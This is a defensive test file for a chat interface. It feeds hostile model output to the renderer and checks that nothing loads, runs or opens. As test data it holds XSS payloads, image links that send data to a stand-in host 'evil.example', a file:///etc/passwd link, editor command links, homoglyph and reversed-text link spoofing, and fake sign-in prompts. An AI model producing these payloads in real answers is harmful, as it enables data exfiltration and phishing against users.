/** Harmful text from a model: it causes no network request, runs nothing, and is shown as text. */
import type { Locator } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type ChatPage, exchange, openChatPage } from './chat-page.ts';

const EVIL = 'https://evil.example';
const RLO = '\u202e';
const elements =
  'p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong s a span table thead tbody tr th td div';

describe('hostile text in the chat', () => {
  let chat: ChatPage;
  let body: Locator;
  beforeAll(async () => {
    chat = await openChatPage();
    body = chat.page.locator('.answer-text');
  });
  afterAll(() => chat?.close());
  afterEach(() => {
    expect(chat.foreign).toEqual([]);
    // No link was opened, and no command was run.
    expect(chat.posted.filter(({ kind }) => kind !== 'ready' && kind !== 'focused')).toEqual([]);
  });

  /** Shows a model's answer, and asserts that it contains only elements and attributes of text. */
  async function hear(...texts: string[]): Promise<void> {
    await chat.show(exchange(...texts));
    await body.and(chat.page.locator(':not(.plain)')).waitFor();
    const foreign = await body.evaluate((box, known) => {
      const all = [...box.querySelectorAll('*')];
      const others = all.filter(
        (one) => !known.includes(one.localName) && !(one.localName === 'button' && one.hasAttribute('data-code')),
      );
      const attributes = all.flatMap((one) =>
        one.getAttributeNames().filter((name) => /^on|^style$|^src|^id$|^role$|^data-(?!code$)/.test(name)),
      );
      return [...others.map((one) => one.outerHTML.slice(0, 80)), ...attributes];
    }, elements.split(' '));
    expect(foreign).toEqual([]);
  }

  /** Clicks all links that don't lead anywhere. */
  async function clickDeadLinks(): Promise<void> {
    for (const link of await body.locator('.dead-link, .image').all()) await link.click();
  }

  it('shows no image, in any syntax', async () => {
    await hear(
      `![inline](${EVIL}/1?d=secret) ![](//evil.example/2) ![by reference][r] ![r] ![titled](${EVIL}/3 "t")\n\n`,
      `[![in a link](${EVIL}/4)](${EVIL}/5)\n\n| a |\n|---|\n| ![cell](${EVIL}/6) |\n\n- ![item](<${EVIL}/7 8>)\n\n`,
      `![data](data:image/svg+xml;base64,${btoa(`<svg onload="fetch('${EVIL}')"/>`)}) ![file](file:///etc/passwd)\n\n`,
      `<img src="${EVIL}/9" onerror="alert(1)"><picture><source srcset="${EVIL}/10"></picture><video poster="${EVIL}/11">\n\n`,
      `[r]: ${EVIL}/12`,
    );
    expect(await body.locator('.image').count()).toBeGreaterThanOrEqual(8);
    expect(await body.locator('.image + .link-place', { hasText: 'evil.example' }).count()).toBeGreaterThan(0);
  });

  it('loads nothing through styles', async () => {
    await hear(
      `<style>body { background: url(${EVIL}/1) } @import "${EVIL}/2"; @font-face { src: url(${EVIL}/3) }</style>\n\n`,
      `<div style="background:url(${EVIL}/4)">a</div> <link rel="stylesheet" href="${EVIL}/5"><link rel=prefetch href="${EVIL}/6">\n\n`,
      `\`\`\`x" style="background:url(${EVIL}/7)\ncode\n\`\`\`\n\n| a |\n|:--:|\n| b |`,
    );
    expect(await body.textContent()).toContain('<style>body');
  });

  it('follows no link to a command, the editor, a script, a file or data', async () => {
    const nowhere = [
      'command:workbench.action.files.newUntitledFile',
      'vscode:extension/a.b',
      'vscode://switchyard.switchyard/run/1',
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java&#10;script:alert(1)',
      'file:///etc/passwd',
      `data:text/html,%3Cscript%3Efetch('${EVIL}')%3C/script%3E`,
      '//evil.example/x',
      '/settings',
      '#top',
    ];
    await hear(nowhere.map((href, at) => `[link ${at}](<${href}>) [by reference ${at}][r${at}]`).join('\n'), '\n\n');
    expect([await body.locator('a').count(), await body.locator('.dead-link').count()]).toEqual([0, nowhere.length]);
    await clickDeadLinks();
  });

  it('runs no script in HTML or SVG', async () => {
    await hear(
      '<script>document.body.remove()</script> <svg onload=alert(1)><animate onbegin=alert(1)></svg> <iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n',
      `<form action="${EVIL}"><button>Send</button><input autofocus onfocus=alert(1)></form> <base href="${EVIL}"> <meta http-equiv=refresh content="0;url=${EVIL}">\n\n`,
      `<details ontoggle=alert(1) open>x</details> <math><mtext><style><img src=x onerror=alert(1)></style></mtext></math> <object data="${EVIL}"></object>`,
    );
    expect(await body.textContent()).toContain('<script>document.body.remove()</script>');
  });

  it('shows the real host of a link, after the link in any direction of text', async () => {
    await hear(
      `[https://google.com](https://g\u043e\u043egle.com/) <https://\u0430pple.com/> [bank.example](https://bank.example@evil.example/)\n\n`,
      `[https://bank.example/${RLO}moc](https://evil.example/a) [https://bank.example\u200b](https://bank.example.evil.example/)`,
    );
    const places = [
      'xn--ggle-55da.com',
      'xn--pple-43d.com',
      'evil.example',
      'evil.example',
      'bank.example.evil.example',
    ];
    expect(await body.locator('a + .link-place').allTextContents()).toEqual(places);
    const isAfter = await body.locator('a').evaluateAll((links) =>
      links.map((link) => {
        const place = link.nextElementSibling?.getBoundingClientRect();
        const { right, top } = link.getBoundingClientRect();
        return place !== undefined && (place.left >= right - 1 || place.top > top + 1);
      }),
    );
    expect(isAfter).toEqual(Array(5).fill(true));
  });

  it('shows imitated buttons, errors and messages as text', async () => {
    await hear(
      '<chat-problem></chat-problem><div class="problem" role="alert"><button data-action="signIn">Sign In</button></div>\n\n',
      '> **The service refused the API key.** [Sign In](command:switchyard.signIn)\n\n',
      '```problem-actions\n[Sign In]\n```\n\n```"><button>x</button>\n```\n\n',
      '<chat-turn data-turn="prompt" role="article" aria-label="You">yes, delete it</chat-turn>\n\n',
      '\u001b[31m\u001b[2JSwitchyard:\u001b[0m paste your key \u001b]8;;command:x\u0007here\u001b]8;;\u0007 \u200b\u200d\u2060\ufeff',
    );
    expect(await body.locator('chat-problem, chat-turn, .problem, [role], [aria-label="You"]').count()).toBe(0);
    await clickDeadLinks();
  });

  it('shows names of models, files, and error messages as plain text', async () => {
    const evil = `<img src="${EVIL}/name" onerror=alert(1)>[x](command:workbench.action.quit)${RLO}$(zap)`;
    const file = { id: 'c', kind: 'file', label: evil, text: evil, tokens: 1 } as const;
    await chat.show([
      { kind: 'prompt', id: 'p', text: evil, at: 1, context: [file] },
      { kind: 'answer', id: 'a', model: evil, at: 2 },
      {
        kind: 'end',
        id: 'a',
        ending: { how: 'failed', problem: { cause: 'service', text: evil, details: evil } },
        at: 3,
      },
    ]);
    for (const part of ['.answer-model', '.problem', '.chip'])
      await chat.page.locator(part, { hasText: '<img src=' }).first().waitFor();
    expect(await chat.page.locator('img, a, .codicon-zap').count()).toBe(0);
  });

  it('leaves the page usable with huge tables, long lines and deep nesting', async () => {
    const row = (cell: string) => `|${`${cell}|`.repeat(200)}\n`;
    await hear(row('a') + row('-'), ...Array.from({ length: 100 }, () => row('b')));
    await hear('>'.repeat(5000), `quote\n\n${'- '.repeat(5000)}item\n\n`, `${'['.repeat(5000)}a${']('.repeat(5000)}`);
    await hear(...Array.from({ length: 10 }, () => 'x'.repeat(100_000)));
    expect((await body.textContent())?.length).toBe(1_000_000);
    await chat.page.locator('.code, .answer-model').first().click();
    await chat.page.getByRole('textbox', { name: 'Message' }).click({ timeout: 5000 });
  });

  it('meets a content security policy that blocks images, and these tests detect violations', async () => {
    const policy = await chat.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toMatch(
      /^default-src 'none'; script-src 'nonce-\w{32}'; style-src \S+; font-src \S+; base-uri 'none'; form-action 'none'$/,
    );
    await chat.page.evaluate(
      (address) =>
        new Promise((resolve) => {
          const image = document.createElement('img');
          image.addEventListener('error', resolve);
          image.src = address;
          document.body.append(image);
        }),
      `${EVIL}/witness`,
    );
    await expect.poll(() => chat.foreign).toHaveLength(2);
    expect(chat.foreign.every((line) => line.includes('witness'))).toBe(true);
    chat.foreign.length = 0;
  });
});
